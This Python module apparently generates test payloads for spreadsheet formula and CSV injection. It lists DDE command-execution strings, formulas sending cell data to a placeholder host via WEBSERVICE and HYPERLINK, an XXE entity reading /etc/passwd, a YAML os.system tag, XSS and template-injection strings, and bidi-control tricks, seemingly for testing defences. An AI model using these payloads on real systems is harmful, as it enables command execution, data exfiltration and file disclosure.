"""Two hundred texts that some program somewhere would not take for text."""

from __future__ import annotations

from collections.abc import Iterator

LONGEST = 2_000
"""What a note holds."""
_SIGNS = "=+-@"
_WIDE = "＝＋－＠"
_SMALL = "﹦﹢﹣﹫"
_BLANKS = [" ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2003", "\u202f", "\u2060", "\u200f", "\u200e", "\u202e", "\x0b", "\x1f"]  # fmt: skip
_BREAKS = ["\t", "\r", "\n", "\r\n"]
_CALLS = [
    "=1+1", "=SUM(A1:A9)", "=A1", "==1", "=-1", "=(1)", "={1}", "{=1+1}", "=TRUE", "=\"x\"&\"y\"", "=NOW()", "=RAND()", "=#REF!",
    '=HYPERLINK("http://x.example/?"&A1,"打开")', '=IMPORTXML("http://x.example","//a")', '=IMPORTDATA("http://x.example")',
    '=IMPORTFEED("http://x.example")', '=IMPORTHTML("http://x.example","table",1)', '=IMPORTRANGE("x","A1")',
    '=WEBSERVICE("http://x.example/"&A1)', '=FILTERXML("<a/>","//a")', '=IMAGE("http://x.example/i.png")',
    '=INDIRECT("评分!A1")', '=CELL("filename")', '=INFO("directory")', '=EXEC("calc")', '=CALL("kernel32","Beep","JJJ",1,1)',
    '=REGISTER.ID("a","b")', "=LAMBDA(x,x)(1)", "=LET(a,1,a)", "=SEQUENCE(1048576)", "=_xlfn.SINGLE(A1)", "=of:=1+1", "msoxl:=1+1",
    "=RTD(\"a\",,\"b\")", '=SQL.REQUEST("x")', '=OPT("x")',
]  # fmt: skip
_DDE = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "＝cmd|' /C calc'!A0", " =cmd|' /C calc'!A0", "\t=cmd|' /C calc'!A0",
    "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", "{ DDEAUTO cmd }", "{HYPERLINK \"http://x.example\"}", "{ INCLUDETEXT \"c:\\\\x\" }",
]  # fmt: skip
_SHEETS = [
    "=评分!A1", "='评分'!A1", "=[other.xlsx]Sheet1!A1", "='file:///c:/x.xlsx'#$A.A1", "='\\\\host\\share\\[x.xlsx]S'!A1", "=_assessor!A1",
    "internal:'评分'!A1", "external:c:\\x.xlsx", "#评分!A1", "$A$1", "A1:B2", "[[levels|0|2]]", "[[~|1]]", "[[levels|0:2|2]]",
    "[x]:*?/\\", "'", "History", "Print_Area", "_xlnm.Print_Area", "t1_levels",
]  # fmt: skip
_APOSTROPHES = ["'=1+1", "''=1+1", "'", "''", "'+1", "'甲", "' =1+1", "‘=1+1", "'\t=1"]
_ESCAPES = [
    "_x003D_1+1", "_x0041_", "_x005F_x003D_", "_x000D_", "_x000a_", "_xD83D_", "_x0000_", "x005F_", "_x005f_x005F_", "_X003D_",
    "%3D1%2B1", "&#61;1+1", "&equals;1+1", "\\u003d1+1", "\\x3d1", "\\=1+1",
]  # fmt: skip
_MARKUP = [
    "<r>=1+1</r>", "<r><t>x</t></r>", "<f>1+1</f>", "</t></is></c><c><f>1</f></c>", "<t xml:space=\"preserve\"> x </t>", "&amp;&lt;&gt;", "]]>",
    "<![CDATA[=1]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;", "<!--", "-->", "\"'<>&",
    "</w:t></w:r><w:fldSimple w:instr=\"DDE\"/>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "javascript:alert(1)", "<a href=\"data:text/html,x\">x</a>", "[x](javascript:alert(1))", "![x](http://x.example/i.png)", "**粗** _斜_ `码`",
    "# 标题", "| a | b |", "$\\sqrt{2}$", ":red[x]", ":material/delete:", "[/red]", "[bold]x[/bold]", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{0}", "%s%n",
]  # fmt: skip
_TABLES = [
    'a",=1+1', '",=1+1,"', '";=1+1;"', "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r=1+1", "a\r\n=1+1", "a,=1+1", "a|=1+1", '"=1+1"', '""', '"', ",", ";", "sep=;",
    '"\n"=1+1', "ID;P", "NA", "NULL", "nan", "#N/A",
]  # fmt: skip
_NUMBERS = [
    "00123",
    "1e5",
    "1-4",
    "3/4",
    "2026-01-01",
    "TRUE",
    "是",
    "１２",
    "-1",
    "+8613800000000",
    "−1",
    "1,5",
    "0x1F",
    "1E400",
]
_YAML = ["!!python/object/apply:os.system ['x']", "!!binary x", "&a [*a,*a]", "*a", "<<: *a", "- x", "? x", "key: value", "---", "no", "~", "|", "> x", "%YAML 1.2"]  # fmt: skip
_MARKS = ["\u202e1+1=", "\u200f=1+1\u200e", "甲\u202exslx.", "\u2066=1\u2069", "=1+1\x00", "\x00=1+1", "\x07=1", "\x1b[31m=1", "\x7f=1", "\ufffe=1", "𠮷=1", "👩‍👩‍👧", "e\u0301=1", "&L&G", "&D", "&[File]"]  # fmt: skip
_LONG = [
    "=" + "1+" * 999 + "1",
    "=" * LONGEST,
    "甲" * LONGEST,
    "=1\n" * 600,
    "'" * LONGEST,
    "\u200b" * 99 + "=1+1",
    "a" * 1_990 + "\n=1+1",
]


_PLAIN = [
    '=HYPERLINK("http://x","y")', "+1+1", "-1+1", "=", "＝1+1", '=IMPORTXML("http://x")', '=WEBSERVICE("http://x")', '=DDE("cmd";"x")',
    "http://example.org", "mailto:a@example.org", "internal:'x'!A1", "\\\\host\\share", "#REF!", "</t></is></c><f>1</f>", "&amp;&lt;",
    "一\n二", "😀", "%s",
]  # fmt: skip


def _all() -> Iterator[str]:
    yield from _CALLS
    yield from (f"{sign}{rest}" for sign in _SIGNS + _WIDE + _SMALL for rest in ("1", "SUM(1)"))
    yield from (f"{blank}=1+1" for blank in [*_BLANKS, *_BREAKS])
    yield from (f"{blank}{sign}1" for blank, sign in zip([*_BLANKS, *_BREAKS], (_WIDE + _SIGNS) * 3, strict=False))
    for family in (_DDE, _SHEETS, _APOSTROPHES, _ESCAPES, _MARKUP, _TABLES, _NUMBERS, _YAML, _MARKS, _LONG, _PLAIN):
        yield from family


PAYLOADS: list[str] = list(dict.fromkeys(_all()))
